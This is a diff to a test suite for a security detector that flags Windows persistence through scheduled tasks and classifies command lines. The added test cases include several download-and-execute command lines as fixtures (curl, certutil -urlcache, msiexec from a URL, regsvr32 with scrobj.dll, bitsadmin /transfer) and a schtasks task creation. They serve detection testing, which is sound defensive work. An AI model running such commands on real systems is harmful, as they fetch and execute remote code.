@@ -3,7 +3,7 @@ import { detector } from "../../../src/detect/persistence-mechanism/index.js";
 import { minutesOf } from "../../../src/detect/persistence-mechanism/judge.js";
 import { commandTraits } from "../../../src/detect/shared/command-line.js";
 import { ENGINES } from "../../support/stores.js";
-import { later, type MadeEvent, told, WindowsWorld } from "../windows/world.js";
+import { commonRealm, later, type MadeEvent, told, WindowsWorld } from "../windows/world.js";
 
 type More = Partial<MadeEvent>;
 
@@ -209,6 +209,61 @@ describe.each(ENGINES)("persistence-mechanism: $name", (engine) => {
     expect(finding?.components).toContainEqual(expect.objectContaining({ name: "brief", value: 1 }));
   });
 
+  it.each(["\\CYAlyNSS", "\\Ärger\\Größe ÇŞ|%1{x}'", "\\计划\u202etxt", "\\-\n\u0000$"])(
+    "knows the deletion of the task %j, made by audit or command line, and not one before it was made",
+    async (name) => {
+      const deleted = (seconds: number): MadeEvent => ({
+        id: 4699,
+        channel: "Security",
+        time: later(seconds),
+        data: { TaskName: name },
+      });
+      const made = task(name, "C:\\Users\\Public\\x.exe", "", "", { time: later(300) });
+      const [finding] = await find([deleted(0), made, deleted(330), deleted(9000)]);
+      expect(finding?.components).toContainEqual(
+        expect.objectContaining({
+          name: "brief",
+          value: 1,
+          meaning: "Deleted 0.5 minutes after it was made.",
+        }),
+      );
+      await world.clear();
+      const plain = name.replace(/^\\/, "");
+      const command = `schtasks /create /tn "${plain}" /tr C:\\Users\\Public\\x.exe /sc once /st 00:00`;
+      const [byCommand] = await find([
+        started(command, "C:\\Windows\\System32\\cmd.exe", { time: later(300) }),
+        deleted(330),
+      ]);
+      expect(byCommand?.components).toContainEqual(expect.objectContaining({ name: "brief", value: 1 }));
+      expect(byCommand?.id).toBe(finding?.id);
+      await world.clear();
+      const [stays] = await find([deleted(0), made]);
+      expect(stays?.components).toContainEqual(expect.objectContaining({ name: "brief", value: 0 }));
+    },
+  );
+
+  it("hosts of two organisations in one realm have findings of their own, and so have hosts that are nobody's", async () => {
+    const program = "C:\\Users\\Public\\adobe_wf.exe";
+    const found = await find(
+      [
+        ...["A-1", "A-2", "B-1"].map((host) => task("\\Update", program, "", "PT1M", { host })),
+        // A week later nobody knows any more what address it has.
+        ...["A-2", "C-1"].map((host) =>
+          task("\\Update", program, "", "PT1M", { host, time: later(7 * 86_400) }),
+        ),
+      ],
+      await commonRealm("default", ["A-1", "A-2", "B-1"]),
+    );
+    const entities = ({ entities: all }: (typeof found)[number]) =>
+      all.filter(({ kind }) => kind === "host" || kind === "address").map(({ value }) => value);
+    expect(found.map((each) => [each.org_id, each.facts.made, ...entities(each)]).sort()).toEqual([
+      [null, 2, "A-2", "C-1"],
+      ["one", 2, "A-1", "A-2", "10.1.0.1", "10.1.0.2"],
+      ["two", 1, "B-1", "10.2.0.3"],
+    ]);
+    expect(new Set(found.map(({ id }) => id)).size).toBe(3);
+  });
+
   it("on many hosts the same mechanism is one finding, and low", async () => {
     const everywhere = Array.from({ length: 10 }, (_, at) =>
       task("\\Fleet Agent", "C:\\ProgramData\\Fleet\\agent.exe", "", "PT5M", { host: `WS-${at}` }),
@@ -258,6 +313,33 @@ describe("command lines", () => {
     ["", "", 0, 0],
   ])("%s", (line, program, place, deed) => {
     expect(commandTraits(line)).toMatchObject({ program, place, deed });
+  });
+
+  it.each([
+    ["cmd /c curl -s https://example.org/x.exe -o x.exe", true],
+    ["curl.exe -V | findstr https:", false],
+    ["certutil.exe -urlcache -f http://example.org/x x.exe", true],
+    ["certutil -hashfile x.exe", false],
+    ["msiexec /i https://example.org/x.msi /quiet", true],
+    ["msiexec.exe /q /i http://example.org/x.msi", true],
+    ["msiexec /i https://example.org/x.msi", false],
+    ["regsvr32 /s /n /u /i:http://example.org/x.sct scrobj.dll", true],
+    ["bitsadmin /transfer j https://example.org/x x.exe", true],
+  ])("%s: a download that is run is %s", (line, expected) => {
+    expect(commandTraits(line).deeds.includes("a download that is run")).toBe(expected);
+  });
+
+  it.each([
+    ["curl ", 200_000],
+    ["msiexec /q ", 200_000],
+    ["bitsadmin|", 200_000],
+    ["c:\\", 200_000],
+    [" ", 200_000],
+    ["a b", 200_000],
+    [" -e ", 200_000],
+  ])("are read soon, made of %j however often", (piece, times) => {
+    const { program } = commandTraits(`cmd.exe /c c:\\x${piece.repeat(times)}`);
+    expect(program).toBe("cmd.exe");
   });
 
   it("intervals are read as Task Scheduler and schtasks write them", () => {
